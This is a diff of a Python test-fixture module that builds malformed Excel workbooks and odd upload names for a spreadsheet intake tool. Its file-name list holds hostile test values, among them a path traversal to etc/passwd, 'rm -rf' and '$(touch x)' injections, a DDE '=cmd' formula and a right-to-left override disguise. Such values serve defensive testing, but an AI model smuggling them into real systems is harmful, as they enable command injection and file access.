-    Accepted("kich-thuoc-sai.xlsx", _sheet(lambda t: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', t))),
+    Accepted(
+        "bom-dau-tep.xlsx",
+        lambda data, spots: with_parts(data, {spots.figures: b"\xef\xbb\xbf" + part(data, spots.figures)}),
+    ),
+    Accepted(
+        "cheo-nguoc.xlsx",
+        lambda data, _: zipped({name.replace("/", "\\"): content for name, content in parts_of(data).items()}),
+    ),
+    Accepted(
+        "duong-dan-tuyet-doi.xlsx",
+        lambda data, _: changed(data, "xl/_rels/workbook.xml.rels", lambda t: t.replace('Target="', 'Target="/xl/')),
+    ),
+    Accepted(
+        "o-tu-dong-xoa.xlsx",
+        lambda data, spots: with_rows(data, spots.guide, '<row r="900000"><c r="XFD900000" s="1"/></row>'),
+    ),
+    Accepted(
+        "kich-thuoc-sai.xlsx",
+        _sheet(lambda t: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', t)),
+    ),
     Accepted("nhi-phan.xlsb", lambda data, _: _binary(data)),
     Accepted("khong-mo-rong", lambda data, _: data),
     Accepted("doi-ten.csv", lambda data, _: data),
-)  # fmt: skip
+)
 
 
 def _hours(data: bytes, spots: Spots) -> bytes:
     """A count of hours too large to be one."""
 
     def style(text: str) -> str:
-        text = re.sub(
-            r"<numFmts[^>]*>", '<numFmts count="99"><numFmt numFmtId="990" formatCode="[h]:mm"/>', text
+        text = re.sub(r"<numFmts[^>]*>", '<numFmts count="99"><numFmt numFmtId="990" formatCode="[h]:mm"/>', text)
+        return re.sub(
+            r"(<cellXfs[^>]*>)(.*?)(</cellXfs>)",
+            r'\1\2<xf numFmtId="990" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>\3',
+            text,
+            flags=re.DOTALL,
         )
-        return re.sub(r"(<cellXfs[^>]*>)(.*?)(</cellXfs>)", r'\1\2<xf numFmtId="990" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>\3', text, flags=re.DOTALL)  # fmt: skip
 
-    count = len(
-        re.findall("<xf ", part(data, "xl/styles.xml").decode().split("<cellXfs")[1].split("</cellXfs")[0])
-    )
+    count = len(re.findall("<xf ", part(data, "xl/styles.xml").decode().split("<cellXfs")[1].split("</cellXfs")[0]))
     cell = f'<c r="{spots.figure}" s="{count}"><v>10000000000</v></c>'
     return put(changed(data, "xl/styles.xml", style), spots.figures, spots.figure, cell)
 
 
 _STRICT = (
-    (
-        "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
-        "http://purl.oclc.org/ooxml/spreadsheetml/main",
-    ),
+    ("http://schemas.openxmlformats.org/spreadsheetml/2006/main", "http://purl.oclc.org/ooxml/spreadsheetml/main"),
     ("http://schemas.openxmlformats.org/officeDocument/2006/", "http://purl.oclc.org/ooxml/officeDocument/"),
     ("http://schemas.openxmlformats.org/drawingml/2006/main", "http://purl.oclc.org/ooxml/drawingml/main"),
 )
@@ -733,9 +829,9 @@ def _chart_sheet(data: bytes) -> bytes:
             f'<Relationship Id="rId77" Type="{space}/chartsheet" Target="chartsheets/sheet1.xml"/></Relationships>',
         ),
     )
-    chart = (
-        _HEAD
-        + b'<chartsheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetViews><sheetView workbookViewId="0"/></sheetViews></chartsheet>'
+    chart = _HEAD + (
+        b'<chartsheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetViews><sheetView '
+        b'workbookViewId="0"/></sheetViews></chartsheet>'
     )
     return with_parts(data, {"xl/chartsheets/sheet1.xml": chart})
 
@@ -757,11 +853,29 @@ def _unaddressed(text: str) -> str:
 def file_names() -> tuple[str, ...]:
     """Names under which a good form may come in."""
     return (
-        "x..%2f..%2fetc%2fpasswd.xlsx", "-rf.xlsx", "; rm -rf .xlsx", "$(touch x).xlsx", "{0}{file}%s.xlsx", "báo cáo (1).xlsx",
-        "bao\u0301 ca\u0301o to\u0302\u0309 ho\u031b\u0323p.xlsx", "slx.\u202excod.xlsx", "dong\nmoi.xlsx", "mau\x1b[31mdo\x07.xlsx", "'=1+1.xlsx", "=cmd|' C'!A0.xlsx",
-        "n" * 250 + ".xlsx", "ẩn\u200b.xlsx", "con.xlsx", "x.xlsx.exe", " .xlsx",
-        os.fsdecode(b"kh\xf4ng ph\xe2i ch\xff.xlsx"),
-    ) if os.name == "posix" else ("báo cáo (1).xlsx", "-rf.xlsx", "{0}{file}%s.xlsx")  # fmt: skip
+        (
+            "x..%2f..%2fetc%2fpasswd.xlsx",
+            "-rf.xlsx",
+            "; rm -rf .xlsx",
+            "$(touch x).xlsx",
+            "{0}{file}%s.xlsx",
+            "báo cáo (1).xlsx",
+            "bao\u0301 ca\u0301o to\u0302\u0309 ho\u031b\u0323p.xlsx",
+            "slx.\u202excod.xlsx",
+            "dong\nmoi.xlsx",
+            "mau\x1b[31mdo\x07.xlsx",
+            "'=1+1.xlsx",
+            "=cmd|' C'!A0.xlsx",
+            "n" * 250 + ".xlsx",
+            "ẩn\u200b.xlsx",
+            "con.xlsx",
+            "x.xlsx.exe",
+            " .xlsx",
+            os.fsdecode(b"kh\xf4ng ph\xe2i ch\xff.xlsx"),
+        )
+        if os.name == "posix"
+        else ("báo cáo (1).xlsx", "-rf.xlsx", "{0}{file}%s.xlsx")
+    )
 
 
 AGENCIES = ("SA", "SB", "SC")
@@ -814,10 +928,14 @@ def spots_of(folder: Folder, data: bytes) -> Spots:
     path.write_bytes(data)
     lines = tuple(cell_of(path, "statements", "dat", "text", turn=n)[1] for n in range(len(PLANTED)))
     spots = Spots(
-        figures="xl/worksheets/sheet3.xml", figure=cell_of(path, "figures", "A1", "2019")[1],
-        following=cell_of(path, "figures", "A1", "2020")[1], day=cell_of(path, "figures", "A7", "2019")[1],
-        statements="xl/worksheets/sheet4.xml", lines=lines, guide="xl/worksheets/sheet1.xml",
-    )  # fmt: skip
+        figures="xl/worksheets/sheet3.xml",
+        figure=cell_of(path, "figures", "A1", "2019")[1],
+        following=cell_of(path, "figures", "A1", "2020")[1],
+        day=cell_of(path, "figures", "A7", "2019")[1],
+        statements="xl/worksheets/sheet4.xml",
+        lines=lines,
+        guide="xl/worksheets/sheet1.xml",
+    )
     path.unlink()
     return spots
 
@@ -840,9 +958,11 @@ def plant(root: Path) -> Planted:
         (folder.inbox / f"{code}.xlsx").write_bytes(filled_form(folder, code))
     expected |= _no_files(folder.inbox)
     return Planted(
-        folder=folder, rejected=expected, accepted={name: a for name, (_, a) in (odd | named).items()},
+        folder=folder,
+        rejected=expected,
+        accepted={name: a for name, (_, a) in (odd | named).items()},
         agencies={name: code for name, (code, _) in (odd | named).items()} | {f"{c}.xlsx": c for c in AGENCIES},
-    )  # fmt: skip
+    )
 
 
 def _no_files(inbox: Path) -> dict[str, tuple[str, ...]]:
